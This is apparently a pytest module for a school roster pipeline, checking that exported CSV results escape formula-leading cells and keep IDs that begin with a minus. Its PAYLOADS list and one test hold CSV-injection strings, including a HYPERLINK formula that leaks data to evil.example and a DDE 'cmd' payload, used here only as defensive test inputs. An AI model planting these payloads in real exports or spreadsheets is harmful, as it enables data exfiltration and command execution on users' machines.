"""Every results-like CSV is safe to open in a spreadsheet: no cell, header included, starts with
= + - @ tab, CR or NUL (OWASP's list, plus ASVS's NUL); such a value gets a leading apostrophe, which
Excel hides, so a phone number "+1 555 0100" still reads as itself (and as text, not a sum).

The files: per-file results, errors, summary, classroom suggestions and merge candidates (the plan is
Parquet, not CSV). IDs may start with - or @, so the reviewed CSVs a person sends back (suggestions,
candidates) are un-escaped on their ID columns: the roster gets "-c1", never "'-c1".
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, update

from roster_pipeline.cli.main import main
from roster_pipeline.import_run import merge_candidates_of
from roster_pipeline.reports.escaping import escape_formulas
from roster_pipeline.reports.writer import csv_bytes
from roster_pipeline.roster.database import make_engine
from roster_pipeline.roster.fixtures import load_fixture, load_fixture_file
from roster_pipeline.roster.migrate import upgrade
from roster_pipeline.roster.models import Classroom
from roster_pipeline.samples import demo_tenant_path
from roster_pipeline_tests.conftest import SAMPLE_UPLOAD
from roster_pipeline_tests.importing import DEMO, edit_csv, import_upload, roster_table
from roster_pipeline_tests.security.tenancy import NEIGHBOUR, NEIGHBOUR_FIXTURE

RISKY = ("=", "+", "-", "@", "\t", "\r", "\x00")
# In an upload (the reader trims spaces and tabs around values, so none start with one there).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "=cmd|' /C calc'!A0",
    "-",
    "=1+1",
]


def cells(data: bytes) -> list[str]:
    """Every cell of a CSV file, the header row included."""
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def risky_cells(data: bytes) -> list[str]:
    """Cells a spreadsheet would run: starting with a risky character and not a plain number."""
    return [cell for cell in cells(data) if cell.startswith(RISKY) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def payload_upload(folder: Path) -> None:
    """The sample upload with formula payloads in names, a phone, an email, a class title, an extra
    column's header and value, and one invalid grade (echoed as the value of its error)."""

    def users(rows: pd.DataFrame) -> pd.DataFrame:
        rows = rows.copy()
        noah = rows["sourcedId"] == "0001004"  # stays a merge candidate: names compare without punctuation
        rows.loc[noah, ["givenName", "familyName"]] = ["@Noah", "=Ng"]
        students = rows.index[(rows["role"] == "student") & ~noah]
        for row, payload in zip(students, PAYLOADS, strict=True):
            rows.loc[row, "givenName"] = payload
        rows.loc[rows["role"] == "teacher", "phone"] = "+1 555 0100"
        rows.loc[rows["sourcedId"] == "0002004", "email"] = "=kwame@students.example.org"
        rows["=1+2"] = "@extra"
        return rows

    edit_csv(folder, "users.csv", users)
    edit_csv(folder, "classes.csv", lambda rows: rows.assign(title="-" + rows["title"]))


@pytest.fixture
def escaping_roster(demo_roster: Engine) -> Engine:
    """The demo district, its Art Club renamed to a formula (a title made by hand)."""
    with demo_roster.begin() as connection:
        table = Classroom.__table__
        connection.execute(update(table).where(table.c.title == "Art Club").values(title="=Art Club"))
    return demo_roster


def test_no_results_file_has_a_cell_a_spreadsheet_would_run(
    escaping_roster: Engine, sample_copy: Path, tmp_path: Path
) -> None:
    payload_upload(sample_copy)
    outcome = import_upload(escaping_roster, sample_copy, tmp_path)
    assert outcome.status == "DRY_RUN", outcome.message
    files = {path.name: path.read_bytes() for path in (outcome.run_folder / "results").iterdir()}
    files["merge_candidates.csv"] = csv_bytes(merge_candidates_of(escaping_roster, outcome.run_id, tmp_path))
    assert {"users_results.csv", "classroom_suggestions.csv", "merge_candidates.csv"} <= set(files)
    for name, data in files.items():
        assert risky_cells(data) == [], name
    users = cells(files["users_results.csv"])
    for payload in [*PAYLOADS, "+1 555 0100", "=kwame@students.example.org", "=1+2", "@extra"]:
        assert "'" + payload in users, payload
    assert "'-Grade 3 Homeroom" in cells(files["classes_results.csv"])
    assert "'=Art Club" in cells(files["classroom_suggestions.csv"])
    assert {"'@Noah", "'=Ng"} <= set(cells(files["merge_candidates.csv"]))  # the hand-made Noah Ng's double


def test_a_rejected_uploads_errors_echo_bad_values_escaped(
    demo_roster: Engine, sample_copy: Path, tmp_path: Path
) -> None:
    edit_csv(
        sample_copy,
        "users.csv",
        lambda rows: rows.assign(grades=rows["grades"].where(rows["grades"] == "", "=1+1")),
    )
    classes = sample_copy / "classes.csv"
    classes.write_text(classes.read_text() + "=cmd|' /C calc'!A0,extra,fields\n")  # a ragged row
    outcome = import_upload(demo_roster, sample_copy, tmp_path)
    assert outcome.status == "REJECTED"
    for path in (outcome.run_folder / "results").iterdir():
        assert risky_cells(path.read_bytes()) == [], path.name
    errors = cells((outcome.run_folder / "results" / "errors.csv").read_bytes())
    assert "'=1+1" in errors
    assert any(cell.startswith("'=cmd|") for cell in errors)


def test_every_text_column_and_header_is_escaped_whatever_its_dtype() -> None:
    import pyarrow as pa

    values = [*PAYLOADS, "\t=1+1", "\r=1+1", "\x00=1", "+1 555 0100", "ok", None]
    frame = pd.DataFrame(
        {
            "object": pd.Series(values, dtype=object),
            "string": pd.Series(values, dtype="string"),
            "arrow": pd.Series(values, dtype=pd.ArrowDtype(pa.string())),
            "category": pd.Series(values, dtype="category"),
            "dictionary": pd.Series(pd.arrays.ArrowExtensionArray(pa.array(values).dictionary_encode())),
            "message": pd.Series([f"{value}; file rejected" for value in values], dtype="string"),
            "=SUM(A1:A9)": -1,
            "score": -0.5,
        }
    )
    data = csv_bytes(frame)
    assert risky_cells(data) == []
    assert cells(data)[:8] == [
        "object",
        "string",
        "arrow",
        "category",
        "dictionary",
        "message",
        "'=SUM(A1:A9)",
        "score",
    ]
    assert "-1" in cells(data) and "-0.5" in cells(data)  # numbers stay numbers


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.none() | st.text(alphabet=st.sampled_from([*RISKY, "a", "1", " ", "é", "'", ";"]), max_size=6)
    )
)
@example(["=a", "'=a", "=a", None])  # escaped, two labels would be one
def test_a_cell_gets_an_apostrophe_exactly_when_it_starts_like_a_formula(values: list[str | None]) -> None:
    wanted = [None if value is None else "'" + value if value[:1] in RISKY else value for value in values]
    # Categorical too (a results message), escaped label by label, "=a" and "'=a" included.
    for dtype in ("string", "category"):
        escaped = escape_formulas(pd.DataFrame({"cell": pd.Series(values, dtype=dtype)}))["cell"]
        assert [None if pd.isna(value) else value for value in escaped] == wanted, dtype


def _sqlite_two_tenants(tmp_path: Path) -> Engine:
    engine = make_engine(f"sqlite:///{tmp_path / 'roster.db'}")
    upgrade(engine)
    with engine.begin() as connection:
        load_fixture_file(connection, demo_tenant_path())
        load_fixture(connection, NEIGHBOUR_FIXTURE)
    return engine


def test_reviewed_classroom_suggestions_keep_ids_that_start_with_a_minus(tmp_path: Path, capsys) -> None:
    engine = _sqlite_two_tenants(tmp_path)
    upload = tmp_path / "upload"
    shutil.copytree(SAMPLE_UPLOAD, upload)
    for name in ("classes.csv", "enrollments.csv"):
        column = "sourcedId" if name == "classes.csv" else "classSourcedId"
        edit_csv(
            upload,
            name,
            lambda rows, c=column: rows.assign(**{c: rows[c].replace("c-0101-hr4", "-c-0101-hr4")}),
        )
    runtime = ["--database-url", str(engine.url), "--data-dir", str(tmp_path / "data")]
    out = tmp_path / "suggestions.csv"
    assert (
        main(["classrooms", "suggest", str(upload), "--tenant", NEIGHBOUR, "--out", str(out), *runtime]) == 0
    )
    assert "'-c-0101-hr4" in cells(out.read_bytes())
    assert main(["classrooms", "accept", str(out), "--tenant", NEIGHBOUR, "--commit", *runtime]) == 0
    classrooms = roster_table(engine, "classrooms", NEIGHBOUR).set_index("title")
    assert classrooms.loc["Grade 4 Homeroom", "sis_id"] == "-c-0101-hr4"


def test_reviewed_merge_candidates_keep_ids_that_start_with_a_minus(tmp_path: Path, capsys) -> None:
    engine = _sqlite_two_tenants(tmp_path)
    upload = tmp_path / "upload"
    shutil.copytree(SAMPLE_UPLOAD, upload)
    for name, column in [
        ("users.csv", "sourcedId"),
        ("enrollments.csv", "userSourcedId"),
        ("student_attributes.csv", "studentSourcedId"),
    ]:
        edit_csv(
            upload, name, lambda rows, c=column: rows.assign(**{c: rows[c].replace("0001004", "-0001004")})
        )
    first = import_upload(engine, upload, tmp_path / "data", commit=True)
    runtime = ["--database-url", str(engine.url), "--data-dir", str(tmp_path / "data")]
    out = tmp_path / "candidates.csv"
    assert main(["students", "candidates", first.run_id, "--out", str(out), *runtime]) == 0
    assert "'-0001004" in cells(out.read_bytes())
    assert main(["students", "merge", str(out), "--tenant", DEMO, "--commit", *runtime]) == 0
    noahs = roster_table(engine, "students").query("given_name == 'Noah'")
    assert noahs["archived_at"].notna().sum() == 1  # the hand-made Noah merged into -0001004
